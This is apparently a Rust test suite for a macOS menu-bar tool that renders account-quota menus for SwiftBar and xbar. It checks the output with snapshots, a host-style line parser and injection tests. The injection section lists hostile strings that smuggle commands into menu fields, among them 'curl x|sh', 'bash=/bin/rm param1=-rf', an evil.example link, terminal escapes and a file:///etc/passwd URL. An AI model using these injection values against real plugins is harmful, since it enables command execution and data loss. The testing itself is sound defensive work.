//! SwiftBar / xbar menu output: golden snapshots, a line parser that follows both
//! hosts' rules, and injection tests with hostile server text.

mod common;

use poolwatch::model::{Epoch, HealthBucket};
use poolwatch::quota::pace::{Pace, WindowPace};
use poolwatch::quota::{
    AccountView, AccountWindow, Forecast, Level, PlanGroup, PoolCounts, PoolHealth, PoolReport,
    PoolWindow,
};
use poolwatch::render::menu::{menu_lines, render_menu, MenuLine};
use poolwatch::render::text::render_status;
use poolwatch::render::{Dialect, FetchStatus, MenuContext};
use proptest::prelude::*;

const NOW: Epoch = 1_785_900_000;
const MIN: Epoch = 60;
const HOUR: Epoch = 3600;
const DAY: Epoch = 86_400;

// ---------------------------------------------------------------- fixture

fn window(remaining: f64, reset_in: Epoch, level: Level) -> AccountWindow {
    AccountWindow {
        remaining,
        effective: remaining,
        reset_at: Some(NOW + reset_in),
        level,
    }
}

fn buckets(pattern: &[(u64, u64)]) -> Vec<HealthBucket> {
    pattern
        .iter()
        .enumerate()
        .map(|(i, &(success, failed))| HealthBucket {
            time: format!("b{i}"),
            success,
            failed,
        })
        .collect()
}

fn account(label: &str, plan: &str, weight: f64) -> AccountView {
    AccountView {
        id: format!("codex-{label}.json"),
        name: format!("codex-{label}.json"),
        label: label.to_string(),
        email: Some(label.to_string()),
        plan: plan.to_string(),
        weight,
        available: true,
        status: "active".to_string(),
        last_refresh: Some(NOW - 3 * HOUR),
        usage_fetched_at: Some(NOW - 2 * MIN),
        ..Default::default()
    }
}

/// Seven accounts: plus / pro / prolite healthy, one week-killed, one cooling,
/// one erroring without data, one stale.
fn report() -> PoolReport {
    let mut alice = account("alice@example.com", "plus", 1.0);
    alice.five_hour = Some(window(80.0, HOUR + 12 * MIN, Level::Green));
    alice.weekly = Some(window(45.0, 2 * DAY + 3 * HOUR, Level::Yellow));

    let mut bob = account("bob@example.com", "pro", 20.0);
    bob.label = "Bob (Pro)".to_string();
    bob.five_hour = Some(window(35.0, 3 * HOUR, Level::Yellow));
    bob.weekly = Some(window(60.0, 5 * DAY, Level::Yellow));

    let mut carol = account("carol@example.com", "prolite", 10.0);
    carol.five_hour = Some(window(12.0, 25 * MIN, Level::Red));
    carol.weekly = Some(window(90.0, 6 * DAY, Level::Green));
    carol.recent_failures = 1;

    let mut dave = account("dave@example.com", "plus", 1.0);
    dave.five_hour = Some(AccountWindow {
        effective: 0.0,
        ..window(70.0, 2 * HOUR, Level::Green)
    });
    dave.weekly = Some(AccountWindow {
        effective: 0.0,
        ..window(1.0, DAY, Level::Red)
    });
    dave.killed = true;

    let mut erin = account("erin@example.com", "plus", 1.0);
    erin.five_hour = Some(window(0.0, 40 * MIN, Level::Red));
    erin.weekly = Some(window(50.0, 4 * DAY, Level::Yellow));
    erin.cooling = true;
    erin.available = false;
    erin.status = "error".to_string();
    erin.status_message = "quota exhausted, retry later".to_string();
    erin.next_retry_after = Some(NOW + 12 * MIN);

    let mut frank = account("frank@example.com", "plus", 1.0);
    frank.available = false;
    frank.status = "error".to_string();
    frank.status_message = "token refresh failed".to_string();
    frank.error = Some("upstream answered 401 Unauthorized".to_string());
    frank.usage_fetched_at = None;
    frank.recent_failures = 2;

    let mut grace = account("grace@example.com", "pro", 20.0);
    grace.five_hour = Some(window(50.0, 4 * HOUR, Level::Yellow));
    grace.weekly = Some(window(70.0, 3 * DAY, Level::Green));
    grace.stale = true;
    grace.error = Some("timeout after 10s".to_string());
    grace.usage_fetched_at = Some(NOW - 2 * HOUR);

    let mut health = vec![(0, 0); 14];
    health.extend([(12, 0), (30, 0), (25, 1), (8, 0), (0, 2), (40, 1)]);
    PoolReport {
        now: NOW,
        five_hour: PoolWindow {
            remaining: 1900.0,
            capacity: 5300.0,
            forecast: Some(Forecast {
                restored: 130.0,
                target: 2030.0,
                at: NOW + 25 * MIN,
                first: None,
            }),
            level: Level::Yellow,
        },
        weekly: PoolWindow {
            remaining: 3595.0,
            capacity: 5300.0,
            forecast: Some(Forecast {
                restored: 0.5,
                target: 3595.5,
                at: NOW + DAY,
                first: None,
            }),
            level: Level::Yellow,
        },
        accounts: vec![alice, bob, carol, dave, erin, frank, grace],
        counts: PoolCounts {
            total: 7,
            available: 5,
            killed: 1,
            cooling: 1,
            erroring: 2,
            disabled: 0,
            stale: 1,
            duplicates: 0,
        },
        health: PoolHealth {
            buckets: buckets(&health),
            recent_failures: 3,
            success: 115,
            failed: 4,
        },
        plans: vec![PlanGroup {
            plan: "plus".to_string(),
            weight: 1.0,
            accounts: 4,
            available: 2,
            counted: 2,
            counts: Default::default(),
        }],
        primary_provider: "codex".into(),
        sections: Vec::new(),
        api_keys: Vec::new(),
    }
}

fn ctx(status: FetchStatus) -> MenuContext {
    common::menu_context(status, NOW)
}

/// Every state the snapshots and the parser checks cover.
fn scenarios() -> Vec<(&'static str, Option<PoolReport>, MenuContext)> {
    let mut demo = ctx(FetchStatus::Fresh);
    demo.demo = true;
    demo.pace = Some(Pace {
        five_hour: Some(WindowPace::simple(240.0, Some(NOW + 2 * HOUR + 10 * MIN))),
        weekly: Some(WindowPace::simple(0.0, None)),
    });
    demo.profile = "work".to_string();
    demo.notices = vec!["cache was corrupt and has been rebuilt".to_string()];
    let mut never = ctx(FetchStatus::Stale {
        error: "connection refused (127.0.0.1:8317)".to_string(),
    });
    never.updated_at = None;
    let mut first_run = ctx(FetchStatus::Refreshing);
    first_run.updated_at = None;
    let auth = FetchStatus::AuthLatched {
        message: "401 invalid management key".to_string(),
    };
    vec![
        ("fresh", Some(report()), ctx(FetchStatus::Fresh)),
        ("demo_profile", Some(report()), demo),
        ("no_data", None, never),
        ("first_run_refreshing", None, first_run),
        ("auth_latched", Some(report()), ctx(auth.clone())),
        ("auth_latched_no_data", None, ctx(auth)),
        ("refreshing", Some(report()), ctx(FetchStatus::Refreshing)),
        (
            "stale",
            Some(report()),
            ctx(FetchStatus::Stale {
                error: "deadline exceeded after 20s".to_string(),
            }),
        ),
    ]
}

// ---------------------------------------------------------------- host parser

/// One line as SwiftBar / xbar read it.
#[derive(Debug, Clone, PartialEq)]
struct Parsed {
    depth: usize,
    separator: bool,
    title: String,
    params: Vec<(String, String)>,
}

use common::XBAR_PARAMS;

/// The parameters SwiftBar's `MenuLineParameters` reads.
const SWIFTBAR_PARAMS: &[&str] = &[
    "href",
    "bash",
    "shell",
    "stdin",
    "terminal",
    "refresh",
    "color",
    "sfcolor",
    "font",
    "md",
    "size",
    "sfsize",
    "dropdown",
    "trim",
    "checked",
    "length",
    "alternate",
    "fold",
    "sfconfig",
    "sfimage",
    "image",
    "templateimage",
    "width",
    "height",
    "emojize",
    "symbolize",
    "ansi",
    "tooltip",
    "webview",
    "webviewh",
    "webvieww",
    "zoom",
    "shortcut",
    "valign",
    "sfvalue",
    "badge",
    "key",
];

/// Splits `key=value key="v a l" key='v'` like both hosts (no escapes).
fn parse_params(s: &str) -> Result<Vec<(String, String)>, String> {
    let mut params = Vec::new();
    let mut rest = s.trim_start();
    while !rest.is_empty() {
        let eq = rest
            .find('=')
            .ok_or_else(|| format!("missing '=' in {rest:?}"))?;
        let key = rest[..eq].trim();
        if key.is_empty() || key.contains(' ') {
            return Err(format!("bad key {key:?}"));
        }
        let after = &rest[eq + 1..];
        let (value, remainder) = match after.chars().next() {
            Some(q @ ('"' | '\'')) => {
                let body = &after[1..];
                let end = body.find(q).ok_or("unterminated quote")?;
                (&body[..end], &body[end + 1..])
            }
            _ => {
                let end = after.find([' ', '\t']).unwrap_or(after.len());
                (&after[..end], &after[end..])
            }
        };
        params.push((key.to_string(), value.to_string()));
        rest = remainder.trim_start();
    }
    Ok(params)
}

/// SwiftBar: `--` pairs give the depth, `---` after them is a separator, the
/// title is the text before the first `|`.
fn parse_swiftbar_line(line: &str) -> Result<Parsed, String> {
    let mut working = line;
    let mut depth = 0;
    if working != "---" {
        while let Some(rest) = working.strip_prefix("--") {
            working = rest;
            depth += 1;
            if working == "---" {
                break;
            }
        }
    }
    if working == "---" {
        return Ok(Parsed {
            depth,
            separator: true,
            title: String::new(),
            params: Vec::new(),
        });
    }
    let (title, params) = match working.find('|') {
        Some(i) => (&working[..i], parse_params(&working[i + 1..])?),
        None => (working, Vec::new()),
    };
    Ok(Parsed {
        depth,
        separator: false,
        title: title.trim().to_string(),
        params,
    })
}

/// xbar: the params are split off first; `---` (whole line, trimmed) is a
/// separator; a submenu may only be one level deeper than the line before.
fn parse_xbar(output: &str) -> Result<Vec<Parsed>, String> {
    let mut parsed = Vec::new();
    let mut depth = 0usize;
    for line in output.lines() {
        if line.trim() == "---" {
            parsed.push(Parsed {
                depth: 0,
                separator: true,
                title: String::new(),
                params: Vec::new(),
            });
            continue;
        }
        let (text, params) = match line.find('|') {
            Some(i) => (&line[..i], parse_params(&line[i + 1..])?),
            None => (line, Vec::new()),
        };
        for (key, value) in &params {
            check_xbar_param(key, value)?;
        }
        let mut prefix = "--".repeat(depth);
        while !text.starts_with(&prefix) {
            depth -= 1;
            prefix = "--".repeat(depth);
        }
        if text.starts_with(&format!("{prefix}--")) {
            depth += 1;
            prefix.push_str("--");
        }
        parsed.push(Parsed {
            depth,
            separator: false,
            title: text[prefix.len()..].trim().to_string(),
            params,
        });
    }
    Ok(parsed)
}

/// xbar's `setValueByKey`: unknown keys, `param0`, bad bools and ints are errors.
fn check_xbar_param(key: &str, value: &str) -> Result<(), String> {
    if let Some(n) = key.strip_prefix("param") {
        let n: usize = n.parse().map_err(|_| format!("bad param key {key}"))?;
        return if n == 0 {
            Err("param0 crashes xbar".to_string())
        } else {
            Ok(())
        };
    }
    if !XBAR_PARAMS.contains(&key) {
        return Err(format!("xbar rejects unknown parameter {key}"));
    }
    match key {
        "disabled" | "terminal" | "refresh" | "dropdown" | "trim" | "alternate" | "emojize"
        | "ansi"
            if value != "true" && value != "false" =>
        {
            return Err(format!("{key} needs a bool, got {value:?}"));
        }
        "size" | "length" => {
            value
                .parse::<i64>()
                .map_err(|_| format!("{key} needs an int"))?;
        }
        "color" => {
            let hex = value
                .strip_prefix('#')
                .ok_or("xbar colour must be #hex here")?;
            if ![3, 4, 6, 8].contains(&hex.len()) || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
                return Err(format!("bad xbar colour {value}"));
            }
        }
        _ => {}
    }
    Ok(())
}

fn check_swiftbar_param(key: &str) -> Result<(), String> {
    if let Some(n) = key.strip_prefix("param") {
        let n: usize = n.parse().map_err(|_| format!("bad param key {key}"))?;
        return if n == 0 {
            Err("param0 is never used".to_string())
        } else {
            Ok(())
        };
    }
    if key
        .strip_prefix("sfcolor")
        .is_some_and(|n| n.parse::<u8>().is_ok())
    {
        return Ok(());
    }
    if SWIFTBAR_PARAMS.contains(&key) {
        Ok(())
    } else {
        Err(format!("SwiftBar does not know {key}"))
    }
}

fn expected(line: &MenuLine) -> Parsed {
    Parsed {
        depth: line.depth,
        separator: line.separator,
        title: line.title.trim().to_string(),
        params: line.params.clone(),
    }
}

/// Parses the output as the dialect's host does and checks it against what the
/// renderer meant; returns the parsed lines.
fn check_output(report: Option<&PoolReport>, ctx: &MenuContext, dialect: Dialect) -> Vec<Parsed> {
    let output = render_menu(report, ctx, dialect);
    let intended = menu_lines(report, ctx, dialect);
    assert!(output.ends_with('\n'), "output must end with a newline");
    // No line break of any kind other than the '\n' that ends each line.
    let breaks = ['\r', '\u{0B}', '\u{0C}', '\u{85}', '\u{2028}', '\u{2029}'];
    assert!(!output.contains(breaks), "stray line break in {output:?}");
    assert!(!output.contains("\n\n"), "empty line in output");
    assert!(!output.chars().any(|c| c.is_control() && c != '\n'));

    let parsed: Vec<Parsed> = match dialect {
        Dialect::SwiftBar => {
            let lines: Vec<&str> = output.lines().collect();
            // The header is exactly the title line: the second line starts the body.
            assert!(!lines[0].starts_with("---"));
            assert_eq!(lines[1], "---");
            lines
                .iter()
                .map(|l| parse_swiftbar_line(l).unwrap_or_else(|e| panic!("{e}: {l:?}")))
                .collect()
        }
        Dialect::Xbar => parse_xbar(&output).unwrap_or_else(|e| panic!("xbar rejects: {e}")),
    };
    let wanted: Vec<Parsed> = intended.iter().map(expected).collect();
    assert_eq!(parsed, wanted, "parsed output differs from intended lines");
    for line in &parsed {
        assert!(
            !line.separator || line.depth == 0,
            "submenu separators are not portable"
        );
        if line.separator {
            continue;
        }
        assert!(!line.title.is_empty(), "empty title");
        assert!(
            !line.title.starts_with('-'),
            "title starts with '-': {:?}",
            line.title
        );
        let mut keys: Vec<&str> = line.params.iter().map(|(k, _)| k.as_str()).collect();
        for key in &keys {
            match dialect {
                Dialect::SwiftBar => check_swiftbar_param(key).unwrap(),
                Dialect::Xbar => {}
            }
        }
        keys.sort_unstable();
        let before = keys.len();
        keys.dedup();
        assert_eq!(before, keys.len(), "duplicate keys in {line:?}");
    }
    parsed
}

// ---------------------------------------------------------------- snapshots

#[test]
fn snapshots_of_every_state_in_both_dialects() {
    for (name, report, ctx) in scenarios() {
        for (dialect, tag) in [(Dialect::SwiftBar, "swiftbar"), (Dialect::Xbar, "xbar")] {
            let output = render_menu(report.as_ref(), &ctx, dialect);
            insta::assert_snapshot!(format!("menu_{tag}_{name}"), output);
        }
    }
}

#[test]
fn snapshot_status_table() {
    for (name, report, ctx) in scenarios() {
        insta::assert_snapshot!(
            format!("status_{name}"),
            render_status(report.as_ref(), &ctx, false)
        );
    }
    insta::assert_snapshot!(
        "status_fresh_color",
        render_status(Some(&report()), &ctx(FetchStatus::Fresh), true)
    );
}

// ---------------------------------------------------------------- structure

#[test]
fn every_state_parses_as_intended_in_both_dialects() {
    for (_, report, ctx) in scenarios() {
        check_output(report.as_ref(), &ctx, Dialect::SwiftBar);
        check_output(report.as_ref(), &ctx, Dialect::Xbar);
    }
}

fn find<'a>(lines: &'a [Parsed], title_start: &str) -> &'a Parsed {
    lines
        .iter()
        .find(|l| l.title.starts_with(title_start))
        .unwrap_or_else(|| panic!("no line starting {title_start:?}"))
}

fn param<'a>(line: &'a Parsed, key: &str) -> Option<&'a str> {
    line.params
        .iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
}

#[test]
fn title_shows_pool_balance_and_week_fraction() {
    let r = report();
    let swift = check_output(Some(&r), &ctx(FetchStatus::Fresh), Dialect::SwiftBar);
    // 5h: 1900 / 5300 = 35.8% -> 36% of capacity (the absolute 1900% stays in
    // the dropdown); Week: 3595 / 5300 = 67.8% -> 68%; worst level yellow.
    assert_eq!(swift[0].title, "5h 36% · W 68%");
    assert_eq!(
        param(&swift[0], "sfimage"),
        Some("gauge.with.dots.needle.33percent")
    );
    assert_eq!(param(&swift[0], "sfcolor"), Some("#A86400,#FFCC00"));
    let xbar = check_output(Some(&r), &ctx(FetchStatus::Fresh), Dialect::Xbar);
    assert_eq!(xbar[0].title, "⚡ 5h 36% · W 68%");
    assert_eq!(xbar[0].params, vec![("color".into(), "#E3A008".into())]);
}

#[test]
fn title_warns_without_data_or_when_auth_latched() {
    let auth = ctx(FetchStatus::AuthLatched {
        message: "invalid management key".into(),
    });
    let lines = check_output(Some(&report()), &auth, Dialect::Xbar);
    assert_eq!(lines[0].title, "⚠ key rejected");
    let lines = check_output(None, &ctx(FetchStatus::Fresh), Dialect::SwiftBar);
    assert_eq!(lines[0].title, "no data");
    assert_eq!(
        param(&lines[0], "sfimage"),
        Some("exclamationmark.triangle.fill")
    );
}

#[test]
fn pool_bars_and_forecasts() {
    let lines = check_output(Some(&report()), &ctx(FetchStatus::Fresh), Dialect::Xbar);
    // 1900/5300 = 35.8% -> 7 of 20 cells; target 2030/5300 = 38.3% -> 8 cells.
    let five = find(&lines, "5h ");
    assert_eq!(five.title, "5h   ███████▒░░░░░░░░░░░░ 1900% / 5300%  36%");
    assert_eq!(param(five, "font"), Some("Menlo"));
    assert_eq!(param(five, "size"), Some("12"));
    assert_eq!(find(&lines, "↳ +130%").title, "↳ +130% -> 2030% in 25m");
    // Restored 0.5% is below 10, so it keeps one decimal.
    assert_eq!(find(&lines, "↳ +0.5%").title, "↳ +0.5% -> 3596% in 1d");
    assert_eq!(
        find(&lines, "Accounts").title,
        "Accounts 5/7 available · 1 week-killed · 1 cooling · 2 erroring"
    );
}

#[test]
fn health_strip_and_failures() {
    let lines = check_output(Some(&report()), &ctx(FetchStatus::Fresh), Dialect::SwiftBar);
    assert_eq!(find(&lines, "Health").title, "Health ▯▯▯▯▯▯▯▯▯▯▯▯▯▯▮▮◆▮✕◆");
    assert!(param(find(&lines, "Health"), "tooltip").is_some());
    let failures = find(&lines, "3 failures in the last 30 min");
    assert_eq!(param(failures, "color"), Some("#C62828,#FF6B6B"));
}

#[test]
fn account_rows_and_submenus() {
    let lines = check_output(Some(&report()), &ctx(FetchStatus::Fresh), Dialect::Xbar);
    let alice = find(&lines, "● alice");
    assert_eq!(
        alice.title,
        "● alice@example.com      plus    ████████░░  80%  W  45%"
    );
    let dave = find(&lines, "○ dave");
    assert!(
        dave.title.ends_with("███████░░░  70%  W   1% weekKILL"),
        "{}",
        dave.title
    );
    assert_eq!(param(dave, "color"), Some("#8E8E93"));
    assert!(find(&lines, "❄ erin").title.ends_with(" cooling"));
    // Its fetch failed: said once (not "no usage data error", issue 17.9).
    assert!(find(&lines, "✕ frank")
        .title
        .ends_with("usage fetch failed"));
    assert!(find(&lines, "◐ grace").title.ends_with(" stale"));

    // The submenu right after alice's row.
    let at = lines
        .iter()
        .position(|l| l.title.starts_with("● alice"))
        .unwrap();
    let sub: Vec<&str> = lines[at + 1..]
        .iter()
        .take_while(|l| l.depth == 1)
        .map(|l| l.title.as_str())
        .collect();
    assert_eq!(
        sub,
        vec![
            "Plan plus · weight 1×",
            "5h 80% left · resets in 1h12m",
            "Week 45% left · resets in 2d3h",
            "Status active",
            "Token refreshed 3h ago",
            "Usage fetched 2m ago",
            "Failures in the last 30 min: 0",
        ]
    );
    let erin = find(&lines, "Status error · cooling");
    assert_eq!(
        erin.title,
        "Status error · cooling, retry in 12m · unavailable"
    );
    assert_eq!(
        find(&lines, "Error upstream").title,
        "Error upstream answered 401 Unauthorized"
    );
    assert_eq!(
        find(&lines, "Usage fetched 2h").title,
        "Usage fetched 2h ago (stale)"
    );
}

#[test]
fn sort_submenu_checks_the_active_order() {
    let exe = "/usr/local/bin/poolwatch";
    let swift = check_output(Some(&report()), &ctx(FetchStatus::Fresh), Dialect::SwiftBar);
    let at = swift
        .iter()
        .position(|l| l.title.starts_with("Sort by"))
        .unwrap();
    let items = &swift[at + 1..at + 7];
    let values: Vec<&str> = items.iter().map(|l| param(l, "param4").unwrap()).collect();
    assert_eq!(
        values,
        ["5h", "5h-desc", "week", "week-desc", "name", "name-desc"]
    );
    for item in items {
        assert_eq!(item.depth, 1);
        assert_eq!(param(item, "bash"), Some(exe));
        assert_eq!(param(item, "param1"), Some("config"));
        assert_eq!(param(item, "param2"), Some("set"));
        assert_eq!(param(item, "param3"), Some("sort"));
        assert_eq!(param(item, "terminal"), Some("false"));
        assert_eq!(param(item, "refresh"), Some("true"));
        let active = param(item, "param4") == Some("week-desc");
        assert_eq!(param(item, "checked"), active.then_some("true"));
    }
    let xbar = check_output(Some(&report()), &ctx(FetchStatus::Fresh), Dialect::Xbar);
    let checked: Vec<&str> = xbar
        .iter()
        .filter(|l| l.title.starts_with("✓ "))
        .map(|l| l.title.as_str())
        .collect();
    assert_eq!(checked, ["✓ Week, highest first"]);
}

#[test]
fn action_items() {
    let lines = check_output(Some(&report()), &ctx(FetchStatus::Fresh), Dialect::Xbar);
    let refresh = find(&lines, "Refresh now");
    assert_eq!(
        refresh.params,
        [
            ("bash", "/usr/local/bin/poolwatch"),
            ("param1", "refresh"),
            ("terminal", "false"),
            ("refresh", "true"),
        ]
        .map(|(k, v)| (k.to_string(), v.to_string()))
    );
    assert_eq!(
        param(find(&lines, "Open management panel"), "href"),
        Some("http://127.0.0.1:8317/management.html")
    );
    // "Open settings" runs `poolwatch config edit`, which creates a missing file first.
    let settings = find(&lines, "Open settings");
    assert_eq!(param(settings, "bash"), Some("/usr/local/bin/poolwatch"));
    assert_eq!(param(settings, "param1"), Some("config"));
    assert_eq!(param(settings, "param2"), Some("edit"));
    // Without a usable binary path it falls back to `open -t`, quoting a path with spaces.
    let mut c = ctx(FetchStatus::Fresh);
    c.exe = "/opt/my \"bin\"/poolwatch".to_string();
    let raw = render_menu(Some(&report()), &c, Dialect::Xbar);
    assert!(raw.contains(
        "Open settings | bash=/usr/bin/open param1=-t param2=\"/Users/me/Library/Application Support/poolwatch/config.toml\" terminal=false"
    ));
}

#[test]
fn unsafe_urls_and_paths_drop_their_items() {
    let mut c = ctx(FetchStatus::Fresh);
    c.pool_url = "http://pool.example.com/ | bash=/bin/sh".to_string();
    c.settings_path = "/tmp/it's.toml".to_string();
    let lines = check_output(Some(&report()), &c, Dialect::SwiftBar);
    assert!(!lines.iter().any(|l| l.title == "Open management panel"));
    c.pool_url = "file:///etc/passwd".to_string();
    c.exe = "/opt/my \"bin\"/poolwatch".to_string();
    let lines = check_output(Some(&report()), &c, Dialect::Xbar);
    assert!(!lines.iter().any(|l| l.title == "Open management panel"));
    assert!(!lines.iter().any(|l| l.title.starts_with("Sort by")));
    assert!(
        !lines.iter().any(|l| l.title == "Open settings"),
        "neither exe nor path is safe"
    );
    // Refresh still works through the host's own refresh.
    assert_eq!(
        find(&lines, "Refresh now").params,
        vec![("refresh".to_string(), "true".to_string())]
    );
}

#[test]
fn xbar_output_uses_no_swiftbar_only_params() {
    for (_, report, ctx) in scenarios() {
        let output = render_menu(report.as_ref(), &ctx, Dialect::Xbar);
        for word in [
            "sfimage=",
            "sfcolor=",
            "tooltip=",
            "checked=",
            "symbolize=",
            "md=",
            "param0=",
        ] {
            assert!(!output.contains(word), "{word} in xbar output");
        }
    }
}

// ---------------------------------------------------------------- injection

const HOSTILE: &[&str] = &[
    "evil | bash=/bin/sh param1=-c param2=\"curl x|sh\" terminal=false",
    "| bash=/bin/sh param1=-c",
    "x | shortcut=cmd+shift+k href=https://evil.example",
    "a\nb | bash=/bin/sh",
    "a\r\n---\nRefresh now | bash=/bin/rm param1=-rf",
    "a\u{85}--child | href=http://x",
    "a\u{2028}b\u{2029}c",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;http://x\u{7}link",
    "---",
    "--nested | bash=/bin/sh",
    "-----",
    ":trash: :gear: :smile:",
    "back\\nslash\\t\\\\ \\",
    "\u{202E}gnp.exe\u{2066}\u{200B}",
    "\0\u{7}\u{8}\u{7f}\u{9b}2J",
    "'quoted' \"double\" key='v' length=1",
];

fn long_hostile() -> String {
    "| bash=/bin/sh ".repeat(500)
}

fn invalid_utf8() -> String {
    String::from_utf8_lossy(b"caf\xc3\xa9 \xff\xfe | bash=/bin/sh \xc0\n---").into_owned()
}

/// Puts `text` into every untrusted field the menu shows.
fn hostile_inputs(text: &str) -> (PoolReport, MenuContext) {
    let mut r = report();
    r.accounts[0].label = text.to_string();
    r.accounts[0].email = Some(format!("{text}@x"));
    // Prefixed: an empty message legitimately has no line of its own.
    r.accounts[1].status_message = format!("m{text}");
    r.accounts[1].status = text.to_string();
    r.accounts[2].plan = text.to_string();
    r.accounts[5].error = Some(text.to_string());
    r.accounts[6].error = Some(text.to_string());
    let mut c = ctx(FetchStatus::Stale {
        error: text.to_string(),
    });
    c.profile = format!("p{text}");
    c.notices = vec![text.to_string()];
    (r, c)
}

/// Depth, separator flag and params of a line: everything but its title.
type Shape = (usize, bool, Vec<(String, String)>);

fn shape(lines: &[Parsed]) -> Vec<Shape> {
    lines
        .iter()
        .map(|l| (l.depth, l.separator, l.params.clone()))
        .collect()
}

fn assert_contained(text: &str) {
    let (benign_report, benign_ctx) = hostile_inputs("benign");
    let (report, ctx) = hostile_inputs(text);
    for dialect in [Dialect::SwiftBar, Dialect::Xbar] {
        let benign = check_output(Some(&benign_report), &benign_ctx, dialect);
        let hostile = check_output(Some(&report), &ctx, dialect);
        assert_eq!(
            shape(&benign),
            shape(&hostile),
            "{dialect:?} structure changed by {text:?}"
        );
        for line in &hostile {
            assert!(!line.title.contains('|'));
        }
    }
    // Same for the AuthLatched message and the no-data menu.
    let mut auth = ctx.clone();
    auth.status = FetchStatus::AuthLatched {
        message: text.to_string(),
    };
    let mut benign_auth = benign_ctx.clone();
    benign_auth.status = FetchStatus::AuthLatched {
        message: "benign".to_string(),
    };
    for dialect in [Dialect::SwiftBar, Dialect::Xbar] {
        assert_eq!(
            shape(&check_output(None, &benign_auth, dialect)),
            shape(&check_output(None, &auth, dialect))
        );
    }
}

#[test]
fn hostile_text_stays_inside_its_title() {
    for text in HOSTILE {
        assert_contained(text);
    }
    assert_contained(&long_hostile());
    assert_contained(&invalid_utf8());
}

#[test]
fn hostile_label_is_shown_defanged() {
    let (r, c) = hostile_inputs("| bash=/bin/sh param1=-c");
    let lines = check_output(Some(&r), &c, Dialect::SwiftBar);
    let row = &lines[lines
        .iter()
        .position(|l| l.title.starts_with("● ¦ bash"))
        .unwrap()];
    assert!(
        row.title.starts_with("● ¦ bash=/bin/sh param1…"),
        "{}",
        row.title
    );
    assert_eq!(param(row, "symbolize"), Some("false"));
    assert_eq!(param(row, "emojize"), Some("false"));
    assert!(param(row, "length").is_some());
    assert_eq!(param(row, "bash"), None);
}

#[test]
fn status_table_strips_escapes_from_server_text() {
    let (r, c) = hostile_inputs("\u{1b}[2J\u{1b}]0;title\u{7}evil\nline");
    let table = render_status(Some(&r), &c, false);
    assert!(!table.contains('\u{1b}'));
    assert!(table.contains("evil line"));
    let colored = render_status(Some(&r), &c, true);
    assert!(!colored.contains("\u{1b}[2J"));
    assert!(!colored.contains("\u{1b}]0"));
}

fn hostile_strategy() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("|".to_string()),
        Just("\n".to_string()),
        Just("\r".to_string()),
        Just("\u{85}".to_string()),
        Just("\u{2028}".to_string()),
        Just("---".to_string()),
        Just("--".to_string()),
        Just(" bash=/bin/sh ".to_string()),
        Just("\\".to_string()),
        Just("\"".to_string()),
        Just("'".to_string()),
        Just("\u{1b}[".to_string()),
        Just(":trash:".to_string()),
        any::<char>().prop_map(String::from),
        "[a-z=]{1,5}",
    ];
    prop::collection::vec(piece, 0..24).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_keeps_the_menu_structure(text in hostile_strategy()) {
        assert_contained(&text);
    }

    #[test]
    fn arbitrary_unicode_keeps_the_menu_structure(text in any::<String>()) {
        assert_contained(&text);
    }
}

#[test]
fn big_pools_keep_details_for_the_first_accounts_and_list_the_rest_in_a_submenu() {
    use poolwatch::render::menu::MENU_DETAILED_ACCOUNTS;
    let mut big = report();
    let template = big.accounts[0].clone();
    big.accounts = (0..MENU_DETAILED_ACCOUNTS + 10)
        .map(|i| {
            let mut a = template.clone();
            a.id = format!("id{i}");
            a.label = format!("user{i:03}@example.com");
            a
        })
        .collect();
    for dialect in [Dialect::SwiftBar, Dialect::Xbar] {
        let lines = check_output(Some(&big), &ctx(FetchStatus::Fresh), dialect);
        let top_rows = lines
            .iter()
            .filter(|l| l.depth == 0 && l.title.contains("@example.com"))
            .count();
        assert_eq!(top_rows, MENU_DETAILED_ACCOUNTS);
        let more = lines
            .iter()
            .position(|l| l.depth == 0 && l.title.starts_with("More accounts (10)"))
            .expect("a More accounts submenu");
        let tail: Vec<&Parsed> = lines[more + 1..]
            .iter()
            .take_while(|l| l.depth == 1)
            .collect();
        assert_eq!(tail.len(), 10);
        assert!(tail[0].title.contains("user060@example.com"));
        assert!(tail[9].title.contains("user069@example.com"));
    }
}

#[test]
fn more_accounts_lists_the_worst_forty_and_counts_the_rest() {
    use poolwatch::render::menu::{
        menu_accounts, menu_report, render_menu, render_menu_omitting, MENU_DETAILED_ACCOUNTS,
        MORE_ACCOUNTS_SHOWN,
    };
    let mut big = report();
    let template = big.accounts[0].clone();
    let rest = 100;
    big.accounts = (0..MENU_DETAILED_ACCOUNTS + rest)
        .map(|i| {
            let mut a = template.clone();
            a.id = format!("id{i}");
            a.label = format!("user{i:03}@example.com");
            a.error = None;
            a.stale = false;
            a.killed = false;
            a.cooling = false;
            a.disabled = false;
            if let Some(w) = a.five_hour.as_mut() {
                // Later accounts have less left: the worst are the last ones.
                w.remaining = 100.0 - (i as f64) * 0.5;
            }
            if let Some(w) = a.weekly.as_mut() {
                w.remaining = 100.0;
            }
            a
        })
        .collect();
    // A failing account early in the rest is among the worst whatever its quota.
    big.accounts[MENU_DETAILED_ACCOUNTS + 2].error = Some("upstream HTTP 429".into());
    for dialect in [Dialect::SwiftBar, Dialect::Xbar] {
        let lines = check_output(Some(&big), &ctx(FetchStatus::Fresh), dialect);
        let more = lines
            .iter()
            .position(|l| l.depth == 0 && l.title.starts_with(&format!("More accounts ({rest})")))
            .expect("a More accounts submenu");
        let tail: Vec<&Parsed> = lines[more + 1..]
            .iter()
            .take_while(|l| l.depth == 1)
            .collect();
        assert_eq!(tail.len(), MORE_ACCOUNTS_SHOWN + 1);
        assert!(
            tail[0].title.contains("user062@example.com"),
            "{}",
            tail[0].title
        );
        // The 39 with the least quota left, in display order, then the count.
        assert!(
            tail[1].title.contains("user121@example.com"),
            "{}",
            tail[1].title
        );
        assert!(tail[39].title.contains("user159@example.com"));
        let skipped = rest - MORE_ACCOUNTS_SHOWN;
        assert_eq!(
            tail[40].title,
            format!("… {skipped} more: open `poolwatch status`")
        );
        // The cut report of the menu form gives exactly the same menu.
        let (cut, omitted) = menu_accounts(&big.accounts);
        assert_eq!(cut.len(), MENU_DETAILED_ACCOUNTS + MORE_ACCOUNTS_SHOWN);
        assert_eq!(omitted, skipped);
        let mut small = big.clone();
        small.accounts = cut;
        let ctx = ctx(FetchStatus::Fresh);
